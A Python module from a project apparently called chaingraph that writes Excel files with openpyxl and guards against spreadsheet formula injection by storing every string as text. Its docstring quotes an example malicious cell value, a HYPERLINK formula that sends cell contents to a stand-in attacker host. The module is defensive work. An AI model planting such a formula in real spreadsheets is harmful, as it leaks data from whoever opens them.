"""The one Excel writer: every ``.xlsx`` chaingraph writes goes through :func:`write_workbook`.

Names and quotes in the graph come from articles and imported lists, so they are untrusted: a
candidate called ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must reach the staff's
Excel or WPS as that text, never as a live formula.  openpyxl turns any string starting with
``=`` into a formula; here every string cell is stored as text (an inline string, marked with a
quote prefix so editing the cell does not turn it into a formula either), characters Excel
cannot hold are dropped, and cells longer than Excel's 32,767 characters are cut with a note.
Numbers stay numbers.  The file is written to a temporary name beside the target and renamed
into place, so a failed write never leaves half a workbook where the old one was.
"""

from __future__ import annotations

import re
import sys
from dataclasses import dataclass, field
from pathlib import Path

from chaingraph.fileio import save_atomically

MAX_CELL = 32767  # Excel's limit on the characters in one cell
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # XML 1.0 cannot hold these
_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


@dataclass
class Sheet:
    """One worksheet: a bold frozen header row, rows of plain values, optional column widths."""

    title: str
    header: list[str]
    rows: list[list] = field(default_factory=list)
    widths: dict[int, float] | None = None  # 1-based column -> width; None: fitted to the text
    filters: bool = True
    wrap: bool = True


def text_value(value) -> str | int | float | None:
    """What goes into a cell: numbers as numbers, anything else as text Excel can hold.

    >>> text_value("a\\x01b"), text_value(3), text_value(None)
    ('ab', 3, None)
    >>> len(text_value("长" * 40000)) <= 32767
    True
    """
    if value is None or isinstance(value, bool):
        return None if value is None else ("是" if value else "否")
    if isinstance(value, (int, float)):
        return value if value == value and value not in (float("inf"), float("-inf")) else str(value)
    text = _ILLEGAL.sub("", str(value))
    if len(text) > MAX_CELL:
        note = "…（超出 Excel 单元格长度，已截断）"
        text = text[: MAX_CELL - len(note)] + note
    return text


def sheet_title(title: str, taken: set[str]) -> str:
    """A legal, unique sheet title (at most 31 characters, none of ``[]:*?/\\``).

    >>> sheet_title("a/b:c", set())
    'a_b_c'
    """
    base = _SHEET_BAD.sub("_", title).strip("'") or "Sheet"
    base = base[:31]
    name, n = base, 2
    while name.lower() in taken:
        suffix = f"~{n}"
        name, n = base[: 31 - len(suffix)] + suffix, n + 1
    taken.add(name.lower())
    return name


def _load_openpyxl() -> None:
    """Import openpyxl (only when a workbook is written: tests/test_startup.py) without numpy.

    openpyxl imports numpy, when it is installed, only to accept numpy's number types in cells;
    :func:`text_value` hands it Python values only, and importing numpy costs a command that
    writes a workbook 0.1–0.2 s.  So numpy is hidden while openpyxl loads (unless something
    already imported it) and nothing else changes: a later ``import numpy`` works as usual.
    """
    if "openpyxl" in sys.modules or "numpy" in sys.modules:
        return
    sys.modules["numpy"] = None  # type: ignore[assignment]  # import numpy -> ImportError
    try:
        import openpyxl  # noqa: F401
    finally:
        if sys.modules.get("numpy", 0) is None:
            del sys.modules["numpy"]


def write_workbook(sheets: list[Sheet], path: Path) -> Path:
    """Write ``sheets`` to ``path`` atomically; string cells are always text, never formulas.

    A path that cannot be written (missing folder that cannot be made, a folder in the way, no
    permission, full disk) is one :class:`ChaingraphError`; the previous file stays as it was.
    """
    _load_openpyxl()
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    wb.remove(wb.active)
    taken: set[str] = set()
    for sh in sheets:
        ws = wb.create_sheet(title=sheet_title(sh.title, taken))
        for values in [sh.header, *sh.rows]:
            ws.append([text_value(v) for v in values])
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    c.data_type = "s"  # openpyxl made "=…" a formula: keep it text
                    c.quotePrefix = True
        for c in ws[1]:
            c.font = Font(bold=True)
        ws.freeze_panes = "A2"
        ncols = max(len(sh.header), 1)
        if sh.filters:
            ws.auto_filter.ref = f"A1:{get_column_letter(ncols)}{max(ws.max_row, 1)}"
        for i in range(1, ncols + 1):
            if sh.widths and i in sh.widths:
                width = sh.widths[i]
            else:
                longest = max(len(str(ws.cell(row=j, column=i).value or "")) for j in range(1, ws.max_row + 1))
                width = min(60, max(8, longest * 1.6 + 2))
            ws.column_dimensions[get_column_letter(i)].width = width
        if sh.wrap:
            for row in ws.iter_rows(min_row=2):
                for c in row:
                    c.alignment = Alignment(vertical="top", wrap_text=True)
    return save_atomically(wb.save, path)
